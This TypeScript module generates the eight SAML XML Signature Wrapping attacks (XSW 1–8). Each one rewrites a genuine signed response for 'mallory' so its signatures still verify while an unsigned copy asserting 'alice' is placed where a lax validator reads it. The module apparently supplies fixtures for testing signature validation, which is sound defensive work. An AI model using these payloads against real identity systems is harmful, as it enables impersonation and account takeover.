// Signature wrapping (XSW 1 to 8, after “On Breaking SAML”, 2012): mallory's genuine response is rearranged so that its
// signatures still verify over what they cover, and a reader might take an assertion about alice instead.
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
const ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#';

interface Parts {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
}

function must<T>(value: T | null | undefined): T {
  if (value === null || value === undefined) throw new Error('the genuine response lacks a part');
  return value;
}

const childOf = (parent: Element, namespace: string, name: string): Element =>
  must(
    Array.from(parent.childNodes)
      .map((node) => node as Element)
      .find(({ namespaceURI, localName }) => namespaceURI === namespace && localName === name),
  );

const signatureOf = (element: Element): Element => childOf(element, SIGNATURE, 'Signature');

const without = (element: Element, child: Element): Element => {
  element.removeChild(child);
  return element;
};

/** Vendor boundary: a copy of an element is one. */
const copyOf = (element: Element): Element => element.cloneNode(true) as Element;

/** The copy that says alice, under an ID of its own. */
function evilCopy(element: Element): Element {
  const evil = copyOf(element);
  evil.setAttribute('ID', '_evil');
  const nameId = must(Array.from(evil.getElementsByTagNameNS(ASSERTION, 'NameID'))[0]);
  nameId.textContent = 'alice';
  return evil;
}

function genuineOf(element: Element): Element {
  const copy = copyOf(element);
  return without(copy, signatureOf(copy));
}

function unsignedEvil(assertion: Element): Element {
  const evil = evilCopy(assertion);
  return without(evil, signatureOf(evil));
}

const make = (document: Document, namespace: string, name: string): Element =>
  document.createElementNS(namespace, name);

const ARRANGEMENTS: Readonly<Record<string, (parts: Parts) => void>> = {
  'XSW 1: the genuine response inside the signature of the evil one': ({ document, response }) => {
    const evil = evilCopy(response);
    const genuine = genuineOf(response);
    document.replaceChild(evil, response);
    signatureOf(evil).appendChild(genuine);
  },
  'XSW 2: the genuine response beside its detached signature': ({ document, response }) => {
    const evil = evilCopy(response);
    const genuine = genuineOf(response);
    document.replaceChild(evil, response);
    evil.insertBefore(genuine, signatureOf(evil));
  },
  'XSW 3: the evil assertion before the genuine one': ({ response, assertion }) => {
    response.insertBefore(unsignedEvil(assertion), assertion);
  },
  'XSW 4: the genuine assertion inside the evil one': ({ response, assertion }) => {
    const evil = unsignedEvil(assertion);
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
  },
  'XSW 5: the evil assertion with the signature, the genuine one behind': ({ response, assertion }) => {
    const genuine = genuineOf(assertion);
    response.replaceChild(evilCopy(assertion), assertion);
    response.appendChild(genuine);
  },
  'XSW 6: the genuine assertion inside the signature of the evil one': ({ response, assertion }) => {
    const evil = evilCopy(assertion);
    const genuine = genuineOf(assertion);
    response.replaceChild(evil, assertion);
    signatureOf(evil).appendChild(genuine);
  },
  'XSW 7: the evil assertion in Extensions': ({ document, response, assertion }) => {
    const extensions = make(document, PROTOCOL, 'samlp:Extensions');
    response.insertBefore(extensions, childOf(response, PROTOCOL, 'Status'));
    extensions.appendChild(evilCopy(assertion));
  },
  'XSW 8: the genuine assertion in an Object of the signature of the evil one': (parts) => {
    const { document, response, assertion } = parts;
    const evil = evilCopy(assertion);
    const genuine = genuineOf(assertion);
    response.replaceChild(evil, assertion);
    signatureOf(evil)
      .appendChild(make(document, SIGNATURE, 'ds:Object'))
      .appendChild(genuine);
  },
};

export const WRAPPINGS = Object.entries(ARRANGEMENTS).map(
  ([name, arrange]): readonly [string, (genuine: string) => string] => [
    name,
    (genuine) => {
      const document = new DOMParser().parseFromString(genuine, 'text/xml');
      const response = document.documentElement;
      arrange({ document, response, assertion: childOf(response, ASSERTION, 'Assertion') });
      return new XMLSerializer().serializeToString(document);
    },
  ],
);
